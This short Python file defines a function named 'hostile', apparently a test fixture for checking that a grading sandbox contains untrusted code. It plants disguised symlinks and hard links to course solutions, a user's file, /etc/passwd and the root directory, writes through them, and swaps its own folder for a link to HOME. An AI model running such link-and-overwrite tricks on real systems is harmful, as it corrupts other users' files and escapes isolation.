"""Puts links in its folder, and in its folder's place, that lead to others' files."""

import os


def hostile(*arguments, **options):
    here = os.getcwd()
    for target, name in (
        (f"{COURSE}/solutions", "answers"), (f"{HOME}/precious.txt", "curves.png"),
        (f"{HOME}/precious.txt", "result.npy"), ("/etc/passwd", "history.npy"), ("/", "root"),
    ):  # fmt: skip
        try:
            os.symlink(target, name)
            os.link(target, f"{name}.hard")
        except OSError:
            continue
    for path in ("curves.png", "answers/new.py", f"root{HOME}/new", "root/tmp/new"):
        try:
            with open(path, "a") as file:
                file.write("hostile")
        except OSError:
            continue
    os.rename(here, here + "-away")
    os.symlink(HOME, here)
    return 0
